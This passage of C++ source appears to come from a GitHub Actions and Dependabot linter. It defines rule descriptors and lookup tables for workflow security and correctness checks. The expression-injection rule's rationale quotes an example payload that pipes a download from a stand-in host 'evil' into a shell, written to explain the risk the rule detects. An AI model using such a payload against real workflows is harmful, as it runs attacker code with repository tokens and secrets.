// The CI rules: one descriptor per rule (what docs/ci.md and SARIF show) and
// one pass per file that walks the parsed document top-down — workflow, then
// each job, then each step — and reports at the exact key or value at fault.
//
// Why a hand-written walk instead of a schema: the interesting checks are
// relational (a trigger makes an interpolation dangerous; a checkout of the
// PR head is grave only with secrets or write permissions; a scanner's
// `|| true` only matters because it is a scanner), so each level passes the
// facts it learned (triggers, permissions, needs, step ids) down to the next.
// Cross-file facts (reusable workflow inputs, local action inputs) come from a
// RepoIndex built once before the per-file pass, which runs in parallel.
#include <algorithm>
#include <cmath>
#include <span>
#include <tuple>

#include "ci/model.h"
#include "ci/scripts.h"
#include "gatehouse/base.h"
#include "gatehouse/ci.h"
#include "gatehouse/ci_expr.h"
#include "gatehouse/secrets_scan.h"

namespace gatehouse {

namespace ci {
namespace {

// ---- rule descriptors -----------------------------------------------------------

constexpr const char* kHardening =
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
    "security-hardening-for-github-actions";
constexpr const char* kSyntax =
    "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions";
constexpr const char* kExpressions =
    "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
    "evaluate-expressions-in-workflows-and-actions";
constexpr const char* kContextsDoc =
    "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
    "accessing-contextual-information-about-workflow-runs";
constexpr const char* kDependabotDoc =
    "https://docs.github.com/en/code-security/dependabot/working-with-dependabot/"
    "dependabot-options-reference";

struct RuleDef {
  const char* id;
  const char* title;
  Severity severity;
  Confidence confidence;
  Area area;
  const char* rationale;
  const char* fix;
  const char* reference;
};

const RuleDef kRules[] = {
    {"ci-action-deprecated", "Action version or runtime is deprecated or disabled",
     Severity::kMedium, Confidence::kHigh, Area::kCiCd,
     "Old major versions of core actions run on retired Node.js runtimes or, for "
     "upload-artifact/download-artifact v1-v3 and cache v1-v2, stopped working altogether; "
     "action.yml files declaring node12/node16 run on a runtime GitHub no longer ships.",
     "Upgrade to the current major version (pinned by commit SHA) or move the action to "
     "`using: node20`.",
     "https://github.blog/changelog/2024-04-16-deprecation-notice-v3-of-the-artifact-actions/"},
    {"ci-action-unpinned", "Action not pinned to a full commit SHA", Severity::kMedium,
     Confidence::kHigh, Area::kSecurity,
     "Tags and branches are mutable: whoever controls the action's repository (or steals its "
     "credentials, as in the tj-actions/changed-files compromise) can change what your workflow "
     "runs. Third-party actions weigh more than actions/* and github/*; branch refs more than "
     "tags; docker:// images without a digest likewise.",
     "Pin `uses:` to the 40-character commit SHA of the release and keep the tag in a comment "
     "(`uses: owner/repo@<sha> # v4.1.2`); let Dependabot's github-actions ecosystem update it.",
     "https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies"},
    {"ci-bot-condition-spoofable", "Bot check on github.actor can be spoofed", Severity::kHigh,
     Confidence::kMedium, Area::kSecurity,
     "github.actor (and triggering_actor, event.sender) is whoever caused the latest event, not "
     "who wrote the code: an attacker's PR can be re-triggered by Dependabot (e.g. a rebase), "
     "and `if: github.actor == 'dependabot[bot]'` then runs privileged steps on attacker code.",
     "Check the author of the pull request instead "
     "(`github.event.pull_request.user.login == 'dependabot[bot]'`) and avoid privileged "
     "triggers for bot automation.",
     "https://docs.zizmor.sh/audits/#bot-conditions"},
    {"ci-concurrency-missing", "Pull-request workflow without concurrency cancellation",
     Severity::kLow, Confidence::kHigh, Area::kCiCd,
     "Every push to a pull request starts a new run while superseded runs keep going: runner "
     "minutes are wasted and queues grow.",
     "Add `concurrency: {group: ${{ github.workflow }}-${{ github.event.pull_request.number || "
     "github.ref }}, cancel-in-progress: true}` at the top level.",
     "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/"
     "control-the-concurrency-of-workflows-and-jobs"},
    {"ci-condition-always-true", "`if:` condition is always true", Severity::kHigh,
     Confidence::kHigh, Area::kCiCd,
     "When `if:` mixes `${{ }}` with other text (`${{ a }} && ${{ b }}`, `${{ x }} == 'y'`) the "
     "whole value is a string template, and a non-empty string is true: the step or job always "
     "runs.",
     "Write the whole condition as one expression: `if: ${{ a && b }}` or `if: a && b`.",
     kExpressions},
    {"ci-cron-invalid", "Invalid cron schedule", Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "GitHub rejects the workflow (or never runs the schedule) when a cron expression is not 5 "
     "POSIX fields with values in range.",
     "Use 5 fields (minute 0-59, hour 0-23, day 1-31, month 1-12 or JAN-DEC, weekday 0-6 or "
     "SUN-SAT) with `*`, lists, ranges and steps.",
     "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/"
     "events-that-trigger-workflows#schedule"},
    {"ci-dangerous-checkout", "Privileged trigger checks out pull-request code",
     Severity::kCritical, Confidence::kHigh, Area::kSecurity,
     "pull_request_target, workflow_run and issue_comment run in the base repository with its "
     "secrets and a write token. Checking out the PR head there and building or testing it runs "
     "attacker code with those privileges (\"pwn request\"). Graver when the job uses secrets or "
     "write permissions.",
     "Use the `pull_request` trigger for untrusted code; if privileged follow-up is needed, split "
     "it into a workflow_run workflow that only consumes artifacts as data, never executes them.",
     "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},
    {"ci-dependabot-actions-missing", "Dependabot does not update GitHub Actions", Severity::kLow,
     Confidence::kHigh, Area::kSecurity,
     "Pinned actions only stay safe if something bumps the pins; without a github-actions "
     "ecosystem entry, pins rot and security fixes never arrive.",
     "Add `- package-ecosystem: github-actions` with `directory: /` to .github/dependabot.yml.",
     kDependabotDoc},
    {"ci-dependabot-automerge-major", "Dependabot PRs auto-merged including major updates",
     Severity::kHigh, Confidence::kMedium, Area::kSecurity,
     "Auto-merging every Dependabot PR merges breaking (major) upgrades and any compromised "
     "release straight into the default branch, with only CI between them and production.",
     "Gate the merge on dependabot/fetch-metadata's update-type "
     "(`if: steps.meta.outputs.update-type != 'version-update:semver-major'`) or set the "
     "merge action's target to minor/patch.",
     "https://docs.github.com/en/code-security/dependabot/working-with-dependabot/"
     "automating-dependabot-with-github-actions"},
    {"ci-dependabot-no-cooldown", "Dependabot update without cooldown", Severity::kLow,
     Confidence::kHigh, Area::kCiCd,
     "Without a cooldown Dependabot proposes releases minutes after they are published — the "
     "window in which compromised packages are usually caught and yanked.",
     "Add `cooldown: {default-days: 3}` (and longer for majors) to the update entry.",
     kDependabotDoc},
    {"ci-dependabot-no-groups", "Dependabot update without groups", Severity::kLow,
     Confidence::kHigh, Area::kCiCd,
     "One PR per dependency floods reviewers and CI; grouped updates (e.g. all minor/patch "
     "versions) are reviewed and tested once.",
     "Add `groups:` (for example `minor-and-patch: {update-types: [minor, patch]}`).",
     kDependabotDoc},
    {"ci-dependabot-pr-limit", "Dependabot open-pull-requests-limit absent or too high",
     Severity::kLow, Confidence::kHigh, Area::kCiCd,
     "Without an explicit limit every ecosystem/directory entry may keep 5 PRs open; limits over "
     "10 let update PRs pile up faster than they are reviewed.",
     "Set `open-pull-requests-limit` explicitly (5 or fewer per entry, combined with groups).",
     kDependabotDoc},
    {"ci-deprecated-command", "Deprecated or disabled workflow command", Severity::kMedium,
     Confidence::kHigh, Area::kCiCd,
     "`::set-output` and `::save-state` are deprecated (stdout parsing can be spoofed by logged "
     "text); `::set-env` and `::add-path` are disabled and fail the step.",
     "Write to the files instead: `echo \"name=value\" >> \"$GITHUB_OUTPUT\"`, `$GITHUB_STATE`, "
     "`$GITHUB_ENV`, `$GITHUB_PATH`.",
     "https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-"
     "output-commands/"},
    {"ci-duplicate-id", "Duplicate key, job id or step id", Severity::kHigh, Confidence::kHigh,
     Area::kCiCd,
     "GitHub rejects a workflow with a repeated mapping key (two jobs with one id, two `env:` "
     "blocks) or two steps with one `id`; YAML libraries that keep the last value hide the bug.",
     "Rename or merge the duplicates.", kSyntax},
    {"ci-expression-context", "Unknown or unavailable context in an expression", Severity::kHigh,
     Confidence::kMedium, Area::kCiCd,
     "An expression names a context that does not exist, is not available at that key (e.g. "
     "`secrets` in `if:`), a `needs.<job>` that is not in `needs:`, a `steps.<id>` not defined "
     "before the step, or an `inputs.<name>` that is not declared: GitHub rejects the workflow "
     "or the value is silently empty.",
     "Use a context available at that key (see the context availability table), add the job to "
     "`needs:`, or fix the id or input name.",
     kContextsDoc},
    {"ci-expression-injection", "Untrusted input interpolated into a script", Severity::kHigh,
     Confidence::kHigh, Area::kSecurity,
     "`${{ }}` is expanded into the script text before the shell runs, so an issue title, PR "
     "body, branch name or commit message containing `\"; curl evil | sh; \"` becomes code, "
     "running with the job's token and secrets. Critical under triggers that give outsiders "
     "privileges (pull_request_target, issue_comment, issues, workflow_run, discussion).",
     "Pass the value through an environment variable and quote it: `env: TITLE: ${{ "
     "github.event.issue.title }}` then `run: echo \"$TITLE\"`; in github-script read "
     "`context.payload` instead.",
     "https://securitylab.github.com/resources/github-actions-untrusted-input/"},
    {"ci-expression-syntax", "Invalid expression", Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "Unbalanced `${{ }}`, syntax errors, unknown functions, wrong argument counts or malformed "
     "format() strings make GitHub reject the workflow at run time.",
     "Fix the expression; strings take single quotes, operators are ==, !=, <, <=, >, >=, &&, "
     "||, !.",
     kExpressions},
    {"ci-hardcoded-credential", "Hard-coded credential in CI configuration", Severity::kHigh,
     Confidence::kMedium, Area::kSecurity,
     "A credential written into env:, with:, container/service credentials or a script is "
     "readable by everyone with read access and lives on in git history.",
     "Revoke and rotate it, then reference a secret: `${{ secrets.NAME }}` (or OIDC instead of "
     "long-lived keys).",
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
     "using-secrets-in-github-actions"},
    {"ci-job-timeout-missing", "Job without timeout-minutes", Severity::kLow, Confidence::kHigh,
     Area::kCiCd,
     "A hung job runs for GitHub's default of 360 minutes, holding a runner and delaying "
     "feedback; explicit timeouts also make runner cost predictable.",
     "Add `timeout-minutes:` with a margin over the job's usual duration.", kSyntax},
    {"ci-needs-cycle", "Jobs depend on each other in a cycle", Severity::kHigh, Confidence::kHigh,
     Area::kCiCd, "A `needs:` cycle makes the workflow invalid.", "Remove one of the dependencies.",
     kSyntax},
    {"ci-needs-unknown", "`needs:` names an unknown job", Severity::kHigh, Confidence::kHigh,
     Area::kCiCd, "GitHub rejects a workflow whose job needs a job id that does not exist.",
     "Fix the job id (ids are case-sensitive in `needs:`).", kSyntax},
    {"ci-permissions-excessive", "Write permission the job does not need", Severity::kMedium,
     Confidence::kMedium, Area::kSecurity,
     "Every write scope on GITHUB_TOKEN is reachable by any step (and any compromised action) "
     "in the jobs it covers. A scope none of the jobs' known steps use is pure risk; a top-level "
     "scope only one job needs should move to that job.",
     "Remove the scope, or move it from the workflow level to the job that needs it.",
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
     "automatic-token-authentication#permissions-for-the-github_token"},
    {"ci-permissions-missing", "No explicit token permissions", Severity::kMedium,
     Confidence::kHigh, Area::kSecurity,
     "Without `permissions:` the GITHUB_TOKEN gets the repository default, which is read/write "
     "on older repositories and organizations: every step can push code or releases.",
     "Add top-level `permissions: contents: read` (or `{}`) and grant write scopes per job.",
     "https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions"},
    {"ci-permissions-write-all", "permissions: write-all", Severity::kHigh, Confidence::kHigh,
     Area::kSecurity,
     "write-all grants every scope, including contents, packages, actions and id-token: a single "
     "compromised step can push to branches, publish packages and mint cloud credentials.",
     "List only the scopes the job needs (`contents: read`, `pull-requests: write`, ...).",
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
     "automatic-token-authentication#permissions-for-the-github_token"},
    {"ci-placeholder-step", "Placeholder step does no work", Severity::kMedium, Confidence::kMedium,
     Area::kCiCd,
     "A step that only echoes, runs `true`/`exit 0`, or prints TODO in place of the tests, "
     "scan or deployment its name promises makes the pipeline look green while checking nothing.",
     "Implement the step or delete it (and the job, if nothing is left).", kSyntax},
    {"ci-retry-masks-flaky", "Retry hides flaky tests", Severity::kMedium, Confidence::kMedium,
     Area::kTesting,
     "`npm test || npm test`, --reruns and retry loops turn a flaky (often racy or order-"
     "dependent) test into a green build, so the flakiness is never fixed and real failures "
     "that pass on retry ship.",
     "Remove the retry; quarantine known-flaky tests explicitly and track them (gatehouse tests "
     "flaky budgets).",
     "https://docs.gitlab.com/ee/development/testing_guide/flaky_tests.html"},
    {"ci-reusable-missing-input", "Required input or secret of a reusable workflow not passed",
     Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "Calling a reusable workflow or local action without a required input (or a required "
     "secret, without `secrets: inherit`) fails the run.",
     "Pass the input under `with:` (or the secret under `secrets:`).",
     "https://docs.github.com/en/actions/sharing-automations/reusing-workflows"},
    {"ci-reusable-unknown-input", "Input or secret not declared by the called workflow",
     Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "GitHub rejects a call that passes an input (or secret) the reusable workflow does not "
     "declare under `on.workflow_call`; for local actions the value is silently ignored.",
     "Fix the name, or declare the input in the called workflow or action.",
     "https://docs.github.com/en/actions/sharing-automations/reusing-workflows"},
    {"ci-runner-retired", "Runner image is retired", Severity::kHigh, Confidence::kHigh,
     Area::kCiCd,
     "Jobs on retired GitHub-hosted images (ubuntu-20.04, macos-12, windows-2019, ...) never "
     "get a runner and fail; deprecated images are being browned out.",
     "Move to a supported label (ubuntu-24.04, macos-15, windows-2025) or `*-latest`.",
     "https://github.com/actions/runner-images"},
    {"ci-scanner-not-gating", "Security scanner cannot fail the build", Severity::kHigh,
     Confidence::kHigh, Area::kSecurity,
     "A scanner with `continue-on-error: true`, `|| true`, `exit-code: 0`, `--soft-fail` or "
     "`fail-build: false` reports findings nobody has to act on: the gate exists on paper only.",
     "Let the scanner fail the job (severity threshold, baseline or ignore file for accepted "
     "findings) instead of discarding its exit code.",
     "https://github.com/ossf/scorecard/blob/main/docs/checks.md#sast"},
    {"ci-scanner-report-only", "Security scanner only reports (never fails)", Severity::kMedium,
     Confidence::kMedium, Area::kSecurity,
     "Some scanners exit 0 on findings unless told otherwise (Trivy without --exit-code / "
     "exit-code, Grype without --fail-on, Semgrep without --error, TruffleHog without --fail, "
     "OWASP dependency-check without --failOnCVSS); results are uploaded but never enforced.",
     "Set the failing option (e.g. `exit-code: '1'` with `severity: CRITICAL,HIGH`) or enforce "
     "the uploaded results with a code-scanning merge protection rule.",
     "https://aquasecurity.github.io/trivy/latest/docs/configuration/others/#exit-code"},
    {"ci-schema-invalid", "Workflow, action or Dependabot file violates the schema",
     Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "Unknown keys (`timeout:` for `timeout-minutes:`), missing `on`/`jobs`/`runs-on`/`steps`, "
     "steps with both or neither of `run`/`uses`, unknown events or permission scopes, "
     "composite `run` steps without `shell`: GitHub rejects the file or ignores the setting.",
     "Fix the key or value as the message says.", kSyntax},
    {"ci-secrets-inherit", "Reusable workflow called with `secrets: inherit`", Severity::kMedium,
     Confidence::kHigh, Area::kSecurity,
     "`secrets: inherit` hands every repository and organization secret to the called workflow "
     "(and whatever it calls), not just the ones it needs.",
     "Pass the secrets the called workflow declares, one by one, under `secrets:`.",
     "https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-"
     "secrets-to-a-reusable-workflow"},
    {"ci-self-hosted-pr", "Self-hosted runner on a pull-request trigger", Severity::kHigh,
     Confidence::kMedium, Area::kSecurity,
     "In a public repository anyone can open a PR; on a self-hosted runner their code runs on "
     "your machine, which is not wiped between jobs and usually sits inside your network.",
     "Run PR jobs on GitHub-hosted (or ephemeral, isolated) runners; require approval for "
     "outside contributors.",
     "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/"
     "about-self-hosted-runners#self-hosted-runner-security"},
    {"ci-template-in-run", "Expression interpolated into a script", Severity::kLow,
     Confidence::kLow, Area::kSecurity,
     "Inputs and step or job outputs pasted into a script with `${{ }}` are code if they ever "
     "carry user-controlled text (a workflow_dispatch input, an output derived from a PR).",
     "Pass the value through `env:` and reference the variable, quoted.", kHardening},
    {"ci-test-failure-ignored", "Test failures are ignored", Severity::kMedium, Confidence::kHigh,
     Area::kTesting,
     "A test step with `continue-on-error: true` or `|| true` never fails the build: "
     "regressions merge silently.",
     "Let the step fail; quarantine individual flaky tests instead.", kSyntax},
    {"ci-unsecure-commands-enabled", "ACTIONS_ALLOW_UNSECURE_COMMANDS enabled", Severity::kHigh,
     Confidence::kHigh, Area::kSecurity,
     "Re-enables `::set-env` and `::add-path`, which let anything printed to the log (including "
     "untrusted input) set environment variables such as LD_PRELOAD or PATH (CVE-2020-15228).",
     "Remove the variable and write to $GITHUB_ENV / $GITHUB_PATH.",
     "https://github.com/advisories/GHSA-mfwh-5m23-j46w"},
    {"ci-uses-invalid", "Invalid `uses:` reference", Severity::kHigh, Confidence::kHigh,
     Area::kCiCd,
     "`uses:` must be `owner/repo[/path]@ref`, `./local/path` or `docker://image`; a local "
     "reusable workflow or action that does not exist (or lacks `on: workflow_call`) fails the "
     "run.",
     "Fix the reference (add `@ref`; check the path; add `on: workflow_call` to the callee).",
     kSyntax},
    {"ci-yaml-syntax", "YAML syntax error", Severity::kHigh, Confidence::kHigh, Area::kCiCd,
     "The file does not parse, so GitHub does not run it (and no other check can look at it).",
     "Fix the YAML at the reported line (indentation, tabs, unclosed quotes or brackets).",
     "https://yaml.org/spec/1.2.2/"},
};

// ---- contexts available per key ------------------------------------------------------

enum : uint32_t {
  kCtxGithub = 1u << 0,
  kCtxEnv = 1u << 1,
  kCtxVars = 1u << 2,
  kCtxJob = 1u << 3,
  kCtxJobs = 1u << 4,
  kCtxSteps = 1u << 5,
  kCtxRunner = 1u << 6,
  kCtxSecrets = 1u << 7,
  kCtxStrategy = 1u << 8,
  kCtxMatrix = 1u << 9,
  kCtxNeeds = 1u << 10,
  kCtxInputs = 1u << 11,
  kCtxAll = (1u << 12) - 1,
};

uint32_t ContextBit(std::string_view name) {
  static constexpr std::pair<std::string_view, uint32_t> kBits[] = {
      {"github", kCtxGithub}, {"env", kCtxEnv},         {"vars", kCtxVars},
      {"job", kCtxJob},       {"jobs", kCtxJobs},       {"steps", kCtxSteps},
      {"runner", kCtxRunner}, {"secrets", kCtxSecrets}, {"strategy", kCtxStrategy},
      {"matrix", kCtxMatrix}, {"needs", kCtxNeeds},     {"inputs", kCtxInputs}};
  for (const auto& [n, b] : kBits)
    if (n == name) return b;
  return 0;
}

// ---- permissions -------------------------------------------------------------------------

enum : uint32_t {
  kScopeContents = 1u << 0,
  kScopePackages = 1u << 1,
  kScopeIdToken = 1u << 2,
  kScopePullRequests = 1u << 3,
  kScopeIssues = 1u << 4,
  kScopeSecurityEvents = 1u << 5,
  kScopePages = 1u << 6,
  kScopeDeployments = 1u << 7,
  kScopeStatuses = 1u << 8,
  kScopeChecks = 1u << 9,
  kScopeActions = 1u << 10,
  kScopeAttestations = 1u << 11,
  kScopeDiscussions = 1u << 12,
  kScopeProjects = 1u << 13,
  kScopeModels = 1u << 14,
};

constexpr std::pair<std::string_view, uint32_t> kScopes[] = {
    {"actions", kScopeActions},
    {"attestations", kScopeAttestations},
    {"checks", kScopeChecks},
    {"contents", kScopeContents},
    {"deployments", kScopeDeployments},
    {"discussions", kScopeDiscussions},
    {"id-token", kScopeIdToken},
    {"issues", kScopeIssues},
    {"models", kScopeModels},
    {"packages", kScopePackages},
    {"pages", kScopePages},
    {"pull-requests", kScopePullRequests},
    {"repository-projects", kScopeProjects},
    {"security-events", kScopeSecurityEvents},
    {"statuses", kScopeStatuses},
};

uint32_t ScopeBit(std::string_view s) {
  for (const auto& [n, b] : kScopes)
    if (n == s) return b;
  return 0;
}

struct Needs {
  uint32_t scopes = 0;
  bool unknown = false;
  // actions/checkout leaves the token in .git/config unless told not to, so
  // any git command or repository script may push: contents is unknowable.
  bool persisted_checkout = false;
  bool runs_git_or_scripts = false;
};

// What well-known actions need from GITHUB_TOKEN (write scopes). Absent from
// the table = unknown (the action may use its default token input).
struct ActionNeed {
  std::string_view prefix;
  uint32_t scopes;
};
constexpr ActionNeed kActionNeeds[] = {
    {"actions/checkout", 0},
    {"actions/setup-", 0},
    {"actions/cache", 0},
    {"actions/upload-artifact", 0},
    {"actions/download-artifact", 0},
    {"actions/upload-pages-artifact", 0},
    {"actions/configure-pages", 0},
    {"actions/deploy-pages", kScopePages | kScopeIdToken},
    {"actions/labeler", kScopePullRequests | kScopeIssues},
    {"actions/stale", kScopeIssues | kScopePullRequests},
    {"actions/attest", kScopeIdToken | kScopeAttestations},
    {"actions/create-release", kScopeContents},
    {"actions/upload-release-asset", kScopeContents},
    {"actions/dependency-review-action", kScopePullRequests},
    {"github/codeql-action/init", 0},
    {"github/codeql-action/autobuild", 0},
    {"github/codeql-action/analyze", kScopeSecurityEvents},
    {"github/codeql-action/upload-sarif", kScopeSecurityEvents},
    {"ossf/scorecard-action", kScopeSecurityEvents | kScopeIdToken},
    {"docker/setup-buildx-action", 0},
    {"docker/setup-qemu-action", 0},
    {"docker/metadata-action", 0},
    {"docker/login-action", 0},  // refined: ghcr.io -> packages
    {"docker/build-push-action", 0},
    {"aws-actions/configure-aws-credentials", 0},  // refined: role-to-assume -> id-token
    {"google-github-actions/auth", 0},             // refined: workload_identity_provider
    {"azure/login", 0},                            // refined: OIDC without creds
    {"azure/setup-", 0},
    {"hashicorp/setup-", 0},
    {"codecov/codecov-action", 0},
    {"aquasecurity/trivy-action", 0},
    {"anchore/scan-action", 0},
    {"anchore/sbom-action", 0},
    {"sigstore/cosign-installer", 0},
    {"pypa/gh-action-pypi-publish", kScopeIdToken},
    {"softprops/action-gh-release", kScopeContents},
    {"ncipollo/release-action", kScopeContents},
    {"googleapis/release-please-action", kScopeContents | kScopePullRequests | kScopeIssues},
    {"google-github-actions/release-please-action",
     kScopeContents | kScopePullRequests | kScopeIssues},
    {"peter-evans/create-pull-request", kScopeContents | kScopePullRequests},
    {"peter-evans/create-or-update-comment", kScopeIssues | kScopePullRequests},
    {"peter-evans/find-comment", 0},
    {"peter-evans/enable-pull-request-automerge", kScopeContents | kScopePullRequests},
    {"marocchino/sticky-pull-request-comment", kScopePullRequests},
    {"thollander/actions-comment-pull-request", kScopePullRequests},
    {"stefanzweifel/git-auto-commit-action", kScopeContents},
    {"endbug/add-and-commit", kScopeContents},
    {"release-drafter/release-drafter", kScopeContents | kScopePullRequests},
    {"dependabot/fetch-metadata", 0},
    {"peaceiris/actions-gh-pages", kScopeContents},
    {"jamesives/github-pages-deploy-action", kScopeContents},
    {"changesets/action", kScopeContents | kScopePullRequests},
    {"dorny/test-reporter", kScopeChecks},
    {"enricomi/publish-unit-test-result-action", kScopeChecks | kScopePullRequests},
    {"mikepenz/action-junit-report", kScopeChecks},
    {"golangci/golangci-lint-action", 0},
    {"amannn/action-semantic-pull-request", 0},
    {"pnpm/action-setup", 0},
    {"ruby/setup-ruby", 0},
    {"dtolnay/rust-toolchain", 0},
    {"swatinem/rust-cache", 0},
    {"gradle/actions/setup-gradle", 0},
    {"gradle/gradle-build-action", 0},
    {"astral-sh/setup-uv", 0},
    {"goreleaser/goreleaser-action", kScopeContents | kScopePackages},
    {"pascalgn/automerge-action", kScopeContents | kScopePullRequests},
    {"fastify/github-action-merge-dependabot", kScopeContents | kScopePullRequests},
};

Needs RunNeeds(std::string_view run) {
  Needs n;
  std::string low = Lower(run);
  n.runs_git_or_scripts = FindWord(low, "git") != std::string::npos ||
                          low.find("./") != std::string::npos ||
                          low.find(".sh") != std::string::npos;
  auto has = [&](std::initializer_list<std::string_view> words) {
    return FindCommand(low, words) != std::string::npos;
  };
  if (has({"gh", "api"}) || low.find("api.github.com") != std::string::npos ||
      low.find("octokit") != std::string::npos || low.find("graphql") != std::string::npos)
    n.unknown = true;
  if (has({"git", "push"}) || has({"gh", "release"}) || has({"semantic-release"}) ||
      has({"release-it"}) || has({"changeset", "publish"}) || has({"lerna", "publish"}))
    n.scopes |= kScopeContents;
  if (has({"goreleaser"})) n.scopes |= kScopeContents | kScopePackages;
  if (has({"gh", "pr"})) n.scopes |= kScopePullRequests;
  if (has({"gh", "pr", "merge"})) n.scopes |= kScopeContents;
  if (has({"gh", "issue"}) || has({"gh", "label"})) n.scopes |= kScopeIssues;
  if (has({"gh", "run"}) || has({"gh", "workflow"}) || has({"gh", "cache"}))
    n.scopes |= kScopeActions;
  if (has({"docker", "push"}) || low.find("ghcr.io") != std::string::npos ||
      has({"npm", "publish"}) || has({"yarn", "publish"}) || has({"pnpm", "publish"}) ||
      has({"mvn", "deploy"}) || has({"dotnet", "nuget", "push"}) || has({"twine", "upload"}))
    n.scopes |= kScopePackages;
  if (low.find("--provenance") != std::string::npos || low.find("id_token") != std::string::npos ||
      low.find("id-token") != std::string::npos ||
      low.find("actions_id_token_request") != std::string::npos || has({"cosign", "sign"}) ||
      has({"cosign", "attest"}) || has({"gh", "attestation"}))
    n.scopes |= kScopeIdToken | kScopeAttestations | kScopePackages;
  // Some tool reads the token we cannot classify: assume it may need anything.
  if (n.scopes == 0 &&
      (low.find("github_token") != std::string::npos ||
       low.find("github.token") != std::string::npos || low.find("gh_token") != std::string::npos))
    n.unknown = true;
  return n;
}

// ---- events ----------------------------------------------------------------------------------

constexpr std::string_view kEvents[] = {
    "branch_protection_rule",
    "check_run",
    "check_suite",
    "create",
    "delete",
    "deployment",
    "deployment_status",
    "discussion",
    "discussion_comment",
    "fork",
    "gollum",
    "image_version",
    "issue_comment",
    "issues",
    "label",
    "merge_group",
    "milestone",
    "page_build",
    "project",
    "project_card",
    "project_column",
    "public",
    "pull_request",
    "pull_request_review",
    "pull_request_review_comment",
    "pull_request_target",
    "push",
    "registry_package",
    "release",
    "repository_dispatch",
    "schedule",
    "status",
    "watch",
    "workflow_call",
    "workflow_dispatch",
    "workflow_run",
};

bool KnownEvent(std::string_view e) {
  for (std::string_view k : kEvents)
    if (k == e) return true;
  return false;
}

// Events whose payload text is written by people outside the repository and
// that run with the base repository's token and secrets.
bool PrivilegedEvent(std::string_view e) {
  return e == "pull_request_target" || e == "workflow_run" || e == "issue_comment" ||
         e == "issues" || e == "discussion" || e == "discussion_comment" ||
         e == "pull_request_review_comment" || e == "pull_request_review";
}

bool KeyIn(std::string_view k, std::span<const std::string_view> set) {
  for (std::string_view s : set)
    if (s == k) return true;
  return false;
}

constexpr std::string_view kWorkflowKeys[] = {"name", "run-name", "on",          "permissions",
                                              "env",  "defaults", "concurrency", "jobs"};
constexpr std::string_view kJobKeys[] = {
    "name",        "permissions",       "needs",     "if",       "runs-on", "environment",
    "concurrency", "outputs",           "env",       "defaults", "steps",   "timeout-minutes",
    "strategy",    "continue-on-error", "container", "services", "snapshot"};
constexpr std::string_view kCallJobKeys[] = {
    "name", "uses", "with", "secrets", "strategy", "needs", "if", "permissions", "concurrency"};
constexpr std::string_view kStepKeys[] = {"id",
                                          "if",
                                          "name",
                                          "uses",
                                          "run",
                                          "shell",
                                          "with",
                                          "env",
                                          "continue-on-error",
                                          "timeout-minutes",
                                          "working-directory"};
constexpr std::string_view kActionKeys[] = {"name",    "author", "description", "inputs",
                                            "outputs", "runs",   "branding"};
constexpr std::string_view kDependabotKeys[] = {"version", "updates", "registries",
                                                "enable-beta-ecosystems", "multi-ecosystem-groups"};
constexpr std::string_view kDependabotUpdateKeys[] = {"package-ecosystem",
                                                      "directory",
                                                      "directories",
                                                      "schedule",
                                                      "allow",
                                                      "assignees",
                                                      "commit-message",
                                                      "groups",
                                                      "ignore",
                                                      "insecure-external-code-execution",
                                                      "labels",
                                                      "milestone",
                                                      "open-pull-requests-limit",
                                                      "pull-request-branch-name",
                                                      "rebase-strategy",
                                                      "registries",
                                                      "reviewers",
                                                      "target-branch",
                                                      "vendor",
                                                      "versioning-strategy",
                                                      "cooldown",
                                                      "exclude-paths",
                                                      "multi-ecosystem-group",
                                                      "patterns"};

// Retired (jobs fail) and deprecated (browned out) GitHub-hosted labels.
struct RunnerStatus {
  std::string_view label;
  bool retired;
};
constexpr RunnerStatus kRunners[] = {
    {"ubuntu-16.04", true}, {"ubuntu-18.04", true}, {"ubuntu-20.04", true},
    {"macos-10.15", true},  {"macos-11", true},     {"macos-12", true},
    {"macos-13", false},    {"windows-2016", true}, {"windows-2019", true},
};

// Deprecated major versions of widely used actions.
struct ActionDeprecation {
  std::string_view name;
  int below;      // majors < below are affected
  bool disabled;  // fails today
  std::string_view why;
};
constexpr ActionDeprecation kDeprecations[] = {
    {"actions/upload-artifact", 4, true, "v1-v3 of the artifact actions stopped working in 2025"},
    {"actions/download-artifact", 4, true, "v1-v3 of the artifact actions stopped working in 2025"},
    {"actions/cache", 3, true, "actions/cache v1-v2 stopped working in 2025 (cache service v2)"},
    {"actions/checkout", 4, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/setup-node", 4, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/setup-python", 5, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/setup-go", 5, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/setup-java", 4, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/setup-dotnet", 4, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/github-script", 7, false, "runs on a deprecated Node.js runtime (node12/node16)"},
    {"actions/create-release", 1000, false, "is archived and unmaintained"},
    {"actions/upload-release-asset", 1000, false, "is archived and unmaintained"},
    {"actions-rs/toolchain", 1000, false, "is archived and unmaintained"},
    {"actions-rs/cargo", 1000, false, "is archived and unmaintained"},
    {"docker/build-push-action", 4, false, "runs on a deprecated Node.js runtime"},
    {"docker/login-action", 2, false, "runs on a deprecated Node.js runtime"},
};

bool ShortSha(std::string_view ref) {
